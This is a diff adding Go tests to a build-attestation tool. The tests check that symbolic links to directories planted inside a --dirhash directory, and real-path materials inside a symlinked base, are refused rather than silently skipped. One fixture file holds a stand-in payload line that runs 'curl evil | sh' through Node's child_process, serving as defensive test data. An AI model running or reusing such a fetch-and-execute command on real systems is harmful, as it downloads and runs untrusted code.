@@ -318,3 +318,98 @@ func TestDirHashBadInput(t *testing.T) {
 		})
 	}
 }
+
+// TestDirHashDirLink: a symbolic link to a directory planted inside a
+// --dirhash directory after it was recorded (a hostile phase between two
+// steps: node_modules/pkg -> a directory of its own) would be skipped,
+// the dirHash unchanged and the next step's MATCH passed, while the
+// command that reads the directory follows the link. It is refused, as
+// dirhash.HashDir fails on it; with WithFollowSymlinkDirs what it leads
+// to is in the digest. Outside a --dirhash directory links to
+// directories are skipped as before.
+func TestDirHashDirLink(t *testing.T) {
+	t.Parallel()
+	for _, walker := range []string{"default", "portable"} {
+		t.Run(walker, func(t *testing.T) {
+			t.Parallel()
+			testDirHashDirLink(t, walker == "portable")
+		})
+	}
+}
+
+func testDirHashDirLink(t *testing.T, portable bool) {
+	p := newProject(t, "")
+	deps := filepath.Join(p.base, "deps")
+	writeDepsTree(t, deps, 20)
+	run := func(opts ...attestor.Option) (string, error) {
+		t.Helper()
+		if portable {
+			opts = append(opts, attestor.WithHashOptions(attestor.WithPortableWalk()))
+		}
+		r := p.recorder(t, newFakeSigner(), opts...)
+		res, err := r.Run(context.Background(), attestor.Step{Name: "s", Materials: []string{"."}, Command: []string{"true"}})
+		if err != nil {
+			return "", err
+		}
+		return digestOf(t, res.Record(), false, "deps")["dirHash"], nil
+	}
+	before, err := run(attestor.WithDirHash("deps"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	payload := filepath.Join(p.base, "payload")
+	writeFile(t, filepath.Join(payload, "index.js"), "require('child_process').exec('curl evil | sh')\n")
+	if err := os.Symlink("../payload", filepath.Join(deps, "evil")); err != nil {
+		t.Fatal(err)
+	}
+	after, err := run(attestor.WithDirHash("deps"))
+	if err == nil {
+		t.Fatalf("a link to a directory inside a --dirhash directory: recorded, dirHash %s (before the link: %s)", after, before)
+	}
+	if !errors.Is(err, attestor.ErrInvalidInput) || !strings.Contains(err.Error(), "deps/evil") || !strings.Contains(err.Error(), "follow") {
+		t.Errorf("error %v: want ErrInvalidInput naming deps/evil and --follow-symlink-dirs", err)
+	}
+	followed, err := run(attestor.WithDirHash("deps"), attestor.WithHashOptions(attestor.WithFollowSymlinkDirs()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if followed == before {
+		t.Error("with --follow-symlink-dirs the linked directory is not in the dirHash")
+	}
+	// Outside a --dirhash directory: skipped, as without --dirhash.
+	if err := os.Symlink("payload", filepath.Join(p.base, "top-link")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Remove(filepath.Join(deps, "evil")); err != nil {
+		t.Fatal(err)
+	}
+	if again, err := run(attestor.WithDirHash("deps")); err != nil || again != before {
+		t.Errorf("a link to a directory outside the --dirhash directory: %v, dirHash %s, want %s", err, again, before)
+	}
+}
+
+// TestDirHashRealPathInside: a path inside a --dirhash directory given by
+// its real absolute path while the base directory is named through a
+// symbolic link is refused like any path inside it (the Hasher accepts it
+// as inside the base): recorded, the directory's artifact would be a
+// dirHash over that one file, not over the directory.
+func TestDirHashRealPathInside(t *testing.T) {
+	t.Parallel()
+	p := newProject(t, "")
+	writeDepsTree(t, filepath.Join(p.base, "deps"), 10)
+	link := filepath.Join(t.TempDir(), "base")
+	if err := os.Symlink(p.base, link); err != nil {
+		t.Fatal(err)
+	}
+	r, err := attestor.NewRecorder(p.ws, newFakeSigner(), attestor.WithHashOptions(attestor.WithBaseDir(link)), attestor.WithDirHash("deps"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	res, err := r.Run(context.Background(), attestor.Step{Name: "s", Materials: []string{filepath.Join(p.base, "deps", "a.b")}, Command: []string{"true"}})
+	if err == nil {
+		t.Fatalf("recorded: materials %v", res.Record().Materials)
+	}
+	if !errors.Is(err, attestor.ErrInvalidInput) || !strings.Contains(err.Error(), `it lies inside "deps"`) {
+		t.Errorf("err = %v, want it to say it lies inside deps", err)
+	}
+}
